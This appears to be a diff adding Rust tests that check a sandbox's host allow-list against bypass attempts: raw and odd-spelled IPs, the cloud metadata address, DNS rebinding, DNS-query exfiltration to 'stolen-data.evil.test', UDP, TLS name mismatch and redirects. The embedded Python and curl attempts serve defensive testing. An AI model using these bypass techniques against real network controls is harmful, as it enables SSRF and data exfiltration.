@@ -1,0 +1,200 @@
+//! Ways around a list of hosts. Each is tried on the host first, where it works, and then inside.
+
+use serde_json::Value;
+
+use crate::internet::Internet;
+
+const WEB: &[&str] = &["--net", "filtered", "--allow-host", "web.test"];
+
+/// A Python program with one argument that prints `reached` when it got through.
+const CONNECT: &str = "\
+import socket, sys
+host, port = sys.argv[1].rsplit(':', 1)
+s = socket.create_connection((host, int(port)), timeout=10)
+s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nConnection: close\\r\\n\\r\\n')
+answer = b''
+while part := s.recv(4096):
+    answer += part
+print('reached' if b'hello' in answer or b'host' in answer[-4:] else 'stopped')
+";
+
+/// N1, N2, N6: addresses instead of names, also those of this machine, its network and its cloud.
+#[test]
+fn addresses_are_no_way_around_names() {
+    let internet = Internet::new();
+    for target in ["30.0.0.20:80", "10.9.8.7:80", "169.254.169.254:80", "30.0.0.10:80"] {
+        let attempt = ["python3", "-c", CONNECT, target];
+        assert_eq!(internet.control(&attempt).expect(0).text(), "reached\n", "{target}: the control");
+        internet.forget_visits();
+        let done = internet.run(WEB, &attempt);
+        assert!(!done.text().contains("reached"), "{target}: {}", done.text());
+        assert_eq!(internet.visits(), Vec::<Value>::new(), "{target}");
+    }
+}
+
+/// N3, N5, B-S17: an allowed name that leads to this machine, its network or its cloud.
+#[test]
+fn an_allowed_name_leads_to_no_special_address() {
+    let internet = Internet::new();
+    for (host, address) in [("inside.test", "10.9.8.7"), ("meta.test", "169.254.169.254")] {
+        let url = format!("http://{host}/");
+        let attempt = ["curl", "-sS", "--max-time", "10", url.as_str()];
+        internet.control(&attempt).expect(0);
+        internet.forget_visits();
+        for more in [&[][..], &["--noproxy", "*"]] {
+            let command = [&attempt, more].concat();
+            let done = internet.run(&["--allow-host", host], &command);
+            assert!(!done.text().contains("hello"), "{host} {more:?}: {}", done.text());
+            assert_eq!(internet.came_to(address), 0, "{host} {more:?}");
+        }
+    }
+    let policy = internet.world.beside("policy").join("config.toml");
+    std::fs::write(&policy, "[[host]]\nallow = [\"inside.test\"]\nlocal = true\n").unwrap();
+    let flags = ["--net", "filtered", "--policy", policy.to_str().unwrap()];
+    internet.run(&flags, &["curl", "-sS", "--max-time", "10", "http://inside.test/"]).expect(0);
+    assert_eq!(internet.came_to("10.9.8.7"), 1, "unless a rule says that it may be local");
+    let listener = internet.listen_on_host();
+    for host in ["loop.test", "self.test"] {
+        let target = format!("{host}:{}", listener.port);
+        let attempt = ["python3", "-c", CONNECT, &target];
+        internet.control(&attempt);
+        assert!(listener.visitors() > 0, "{host}: the control");
+        let before = listener.visitors();
+        internet.run(&["--allow-host", host], &attempt);
+        assert_eq!(listener.visitors(), before, "{host}");
+    }
+}
+
+/// N4: a name that is somebody on the internet the first time and this machine ever after.
+#[test]
+fn rebinding_reaches_only_what_was_checked() {
+    let internet = Internet::new();
+    let listener = internet.listen_on_host();
+    let get = |port: u16| {
+        let url = format!("http://rebind.test:{port}/");
+        internet.run(&["--allow-host", "rebind.test"], &["curl", "-sS", "--max-time", "10", &url])
+    };
+    assert_eq!(get(80).expect(0).text(), "hello from 30.0.0.77\n");
+    get(listener.port);
+    get(listener.port);
+    assert_eq!(listener.visitors(), 0);
+    let target = format!("rebind.test:{}", listener.port);
+    internet.control(&["python3", "-c", CONNECT, &target]);
+    assert_eq!(listener.visitors(), 1, "the control");
+}
+
+/// N7, N8: data in names of hosts. Not one query leaves, whatever asks and whomever.
+#[test]
+fn no_name_leaves_in_a_query() {
+    const ASK: &str = "\
+import socket, struct, sys
+name, server = sys.argv[1], sys.argv[2]
+query = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'
+for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+    try:
+        s = socket.socket(socket.AF_INET, kind)
+        s.settimeout(2)
+        s.connect((server, 53))
+        s.send(query if kind == socket.SOCK_DGRAM else struct.pack('>H', len(query)) + query)
+        s.recv(512)
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo(name, 443)
+except OSError:
+    pass
+";
+    let internet = Internet::new();
+    let attempt = ["python3", "-c", ASK, "stolen-data.evil.test", "30.0.0.53"];
+    internet.control(&attempt).expect(0);
+    assert!(internet.names_asked().len() >= 3, "the control");
+    internet.forget_visits();
+    for flags in [WEB, &["--allow-host", "evil.test"][..]] {
+        internet.run(flags, &attempt).expect(0);
+        assert_eq!(internet.names_asked(), Vec::<String>::new(), "{flags:?}");
+    }
+}
+
+/// N9: what is no TCP has no way out.
+#[test]
+fn datagrams_have_no_way_out() {
+    const SEND: &str = "\
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(2)
+s.sendto(b'x', ('30.0.0.53', 53 if len(sys.argv) > 1 else 9))
+";
+    let internet = Internet::new();
+    internet.control(&["python3", "-c", SEND]).expect(0);
+    let done = internet.run(WEB, &["python3", "-c", SEND]);
+    // It is refused at once or goes nowhere; nobody outside has seen it.
+    assert!(done.code.is_some());
+    assert_eq!(internet.visits(), Vec::<Value>::new());
+}
+
+/// N10, B-C14: CONNECT to the allowed host, TLS for another one behind the same address.
+#[test]
+fn the_name_in_tls_is_the_name_that_was_allowed() {
+    let internet = Internet::new();
+    let attempt = [
+        "curl",
+        "-sS",
+        "--max-time",
+        "10",
+        "--connect-to",
+        "other.test:443:web.test:443",
+        "https://other.test/",
+    ];
+    internet.control(&attempt).expect(0);
+    internet.forget_visits();
+    for more in [&[][..], &["--noproxy", "*"]] {
+        let done = internet.run(WEB, &[&attempt, more].concat());
+        assert_ne!(done.code, Some(0), "{more:?}: {}", done.text());
+        assert_eq!(internet.came_to("30.0.0.10") + internet.came_to("30.0.0.20"), 0, "{more:?}");
+    }
+}
+
+/// N11: a redirect is a new flow.
+#[test]
+fn a_redirect_is_judged_again() {
+    let internet = Internet::new();
+    let attempt = ["curl", "-sSL", "--max-time", "10", "https://web.test/redirect/https:/other.test/"];
+    assert_eq!(internet.control(&attempt).expect(0).text(), "hello from 30.0.0.20\n");
+    internet.forget_visits();
+    let done = internet.run(WEB, &attempt);
+    assert_ne!(done.code, Some(0));
+    assert_eq!((internet.came_to("30.0.0.10"), internet.came_to("30.0.0.20")), (1, 0));
+}
+
+/// Spellings of addresses that only some programs read as such.
+#[test]
+fn unusual_spellings_of_addresses_are_refused() {
+    let internet = Internet::new();
+    let listener = internet.listen_on_host();
+    for host in ["127.1", "0x7f.1", "2130706433", "017700000001", "[::ffff:127.0.0.1]", "0"] {
+        let url = format!("http://{host}:{}/", listener.port);
+        internet.control(&["curl", "-sS", "--max-time", "2", &url]);
+        let reached = listener.visitors();
+        for more in [&["--proxy", "http://127.0.0.1:3128"][..], &["--proxy", "socks5h://127.0.0.1:3128"]] {
+            let command =
+                [&["curl", "-sS", "--max-time", "5", "--noproxy", "nothing", &url][..], more].concat();
+            internet.run(WEB, &command);
+            assert_eq!(listener.visitors(), reached, "{host} {more:?}");
+        }
+    }
+    assert!(listener.visitors() > 0, "the control");
+}
+
+/// The doors are inside alone: nobody else on the machine reaches the proxy of a session.
+#[test]
+fn nobody_on_the_host_reaches_the_proxy() {
+    let internet = Internet::new();
+    let script = "touch up; while ! [ -e go ]; do sleep 0.05; done; curl -sS -x http://127.0.0.1:3128 https://web.test/";
+    let child = internet.start(WEB, script);
+    crate::testkit::eventually("it runs", || internet.world.workspace.join("up").exists());
+    internet
+        .control(&["curl", "-sS", "--max-time", "5", "-x", "http://127.0.0.1:3128", "https://web.test/"])
+        .expect(7);
+    internet.world.write("go", "");
+    assert_eq!(crate::testkit::collect(child).expect(0).text(), "hello from 30.0.0.10\n");
+}
